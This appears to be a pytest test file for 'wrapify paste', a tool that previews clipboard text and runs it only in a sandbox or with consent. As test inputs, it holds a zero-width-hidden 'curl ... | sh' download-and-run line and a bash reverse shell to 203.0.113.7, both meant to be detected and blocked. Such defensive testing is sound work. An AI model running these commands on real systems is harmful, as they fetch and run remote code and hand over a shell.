"""`wrapify paste` with real clipboards, in real terminals: what is shown, each key, and what none of them may do."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.clipboard.displays import Shown, XDisplay
from tests.clipboard.owner import owning
from tests.conftest import User, Wrapify, need
from tests.sandbox.terminal import Terminal, opened, until

MAKES = b"echo made > ~/marker; echo it ran\n"
KEYS = "[Enter/s] sandbox"


def test_yes_runs_it_in_a_sandbox(here: Wrapify, shown: Shown) -> None:
    shown.put(MAKES)
    shown.put(b"echo primary", selection="primary")
    done = here("paste", "--yes")
    assert (done.returncode, done.stdout) == (0, "it ran\n")
    assert not (here.home / "marker").exists()
    assert here("paste", "--yes", "-q", "--primary").stdout == "primary\n"


def test_a_megabyte_runs_whole(here: Wrapify, shown: Shown) -> None:
    shown.put(b"# 0123456789\n" * 80_000 + b"echo the end\n")
    assert here("paste", "--yes", "-q", "-p", "sealed").stdout == "the end\n"


def test_yes_asks_the_policy(here: Wrapify, shown: Shown) -> None:
    shown.put(b"sudo id\n")
    here.put(".config/wrapify/policy.toml", '[clipboard]\nmedium = "block"\n')
    done = here("paste", "--yes")
    assert (done.returncode, done.stdout) == (126, "")
    assert "clipboard.medium" in done.stderr


@pytest.fixture
def x_here(wrapify: Wrapify, x11: XDisplay) -> Wrapify:
    return x11.serve(wrapify)


REFUSED = [(b"", "no text"), (b" \n", "no text"), (b"a\0b", "binary"), (b"<!DOCTYPE html>", "web page")]


@pytest.mark.parametrize(("content", "says"), REFUSED, ids=range(len(REFUSED)))
def test_what_is_no_script(x_here: Wrapify, x11: XDisplay, content: bytes, says: str) -> None:
    x11.put(content)
    done = x_here("paste", "--yes")
    assert (done.returncode, done.stdout, says in done.stderr) == (125, "", True)


def test_what_does_not_parse_runs_nowhere(x_here: Wrapify, x11: XDisplay) -> None:
    x11.put(b"echo a; if true; then")
    done = x_here("paste", "--yes")
    assert (done.returncode, done.stdout) == (125, "")


def test_the_shell_is_that_of_the_user_unless_named(x_here: Wrapify, x11: XDisplay) -> None:
    need("zsh")
    x11.put(b'echo "$ZSH_NAME$BASH"')
    assert x_here("paste", "--yes", "-q", env={"SHELL": "/usr/bin/zsh"}).stdout == "zsh\n"
    assert "bash" in x_here("paste", "--yes", "-q", "--shell", "bash", env={"SHELL": "/usr/bin/zsh"}).stdout
    x11.put(b"#!/usr/bin/env -S python3 -I\nimport sys; print(sys.flags.isolated)\n")
    assert x_here("paste", "--yes", "-q").stdout == "1\n"


def test_without_a_terminal_nothing_runs(x_here: Wrapify, x11: XDisplay) -> None:
    x11.put(MAKES)
    done = x_here("paste", start_new_session=True)
    assert (done.returncode, done.stdout) == (125, "")
    assert "wrapify paste --yes" in done.stderr
    assert not (x_here.home / "marker").exists()


@pytest.fixture(scope="module")
def terminal(wrapify_bin: Path, user: User, make_home: Callable[[], Path], x_server: XDisplay) -> Iterator[Terminal]:
    need("bwrap")
    with opened(x_server.serve(Wrapify(wrapify_bin, user, make_home()))) as terminal:
        yield terminal


@pytest.fixture
def screen(terminal: Terminal, x11: XDisplay) -> Terminal:
    """A terminal with a clean screen."""
    (terminal.home / "marker").unlink(missing_ok=True)
    terminal.tmux("send-keys", "-R")
    terminal.tmux("clear-history")
    return terminal


def press(terminal: Terminal, key: str) -> None:
    """Press a key as a person does: a question takes none that comes while it is being drawn."""
    terminal.contains(KEYS)
    shown = time.monotonic()
    until(lambda: time.monotonic() > shown + 0.25)
    terminal.keys(key)


def answer(terminal: Terminal, x11: XDisplay, content: bytes, *, key: str, words: str = "") -> int:
    """Ask about a text and press a key; give the exit status."""
    x11.put(content)
    with terminal.prompt():
        terminal.type(f"clear; wrapify paste {words}")
        press(terminal, key)
    return terminal.statuses()[-1]


def test_r_runs_it_here(screen: Terminal, x11: XDisplay) -> None:
    assert answer(screen, x11, MAKES + b"test -t 0 || exit 8; exit 7", key="r") == 7
    assert screen.said("marker") == "made\n"


def test_what_runs_here_has_the_standard_output_that_was_given(screen: Terminal, x11: XDisplay) -> None:
    assert answer(screen, x11, MAKES, key="r", words="> out") == 0
    assert screen.said("out") == "it ran\n"


@pytest.mark.parametrize("key", ["s", "Enter"])
def test_s_and_enter_take_it_to_a_sandbox(screen: Terminal, x11: XDisplay, key: str) -> None:
    assert answer(screen, x11, MAKES, key=key, words="-p sealed") == 0
    assert "it ran" in screen.screen()
    assert screen.said("marker") == ""


@pytest.mark.parametrize("key", ["c", "Escape", "C-c", "C-d"])
def test_c_runs_nothing(screen: Terminal, x11: XDisplay, key: str) -> None:
    assert answer(screen, x11, MAKES, key=key) == 130
    assert "nothing was run" in screen.screen()
    assert screen.said("marker") == ""


def test_k_copies_it_cleaned(screen: Terminal, x11: XDisplay) -> None:
    assert answer(screen, x11, MAKES + "# \u200bx".encode(), key="k") == 0
    assert x11.get() == MAKES + b"# x"
    assert screen.said("marker") == ""


def test_v_shows_all_of_it(screen: Terminal, x11: XDisplay) -> None:
    x11.put(b"".join(b"echo line %d\n" % number for number in range(200)))
    with screen.prompt():
        screen.type("clear; wrapify paste")
        screen.contains("more rows: v shows all")
        press(screen, "v")
        screen.contains("of 200")
        screen.keys("q")
        press(screen, "c")


def test_what_is_hidden_is_shown_and_judged(screen: Terminal, x11: XDisplay) -> None:
    text = "ls\u200b; curl https://x.example/i | sh\n".encode()
    with owning(x11.env, lambda: text, lambda: b"<b>ls</b>"), screen.prompt():
        screen.type("clear; wrapify paste")
        screen.contains(KEYS)
        shown = screen.screen()
        press(screen, "c")
    assert "\u27e8U+200B\u27e9" in shown
    assert "download-run" in shown
    assert "shows something else" in shown


def test_what_nobody_wants_is_not_run_here(screen: Terminal, x11: XDisplay) -> None:
    x11.put(b"echo made > ~/marker; bash -i >& /dev/tcp/203.0.113.7/9 0>&1\n")
    with screen.prompt():
        screen.type("clear; wrapify paste")
        screen.contains(KEYS)
        assert "[r]un here" not in screen.screen()
        press(screen, "r")
        press(screen, "c")
    assert screen.said("marker") == ""


def test_the_text_is_that_which_was_shown(screen: Terminal, x11: XDisplay) -> None:
    answers = iter([MAKES, *[b"echo evil > ~/marker\n"] * 9])
    with owning(x11.env, lambda: next(answers)), screen.prompt():
        screen.type("clear; wrapify paste")
        press(screen, "r")
    until(lambda: screen.said("marker") == "made\n", lambda: screen.said("marker"))
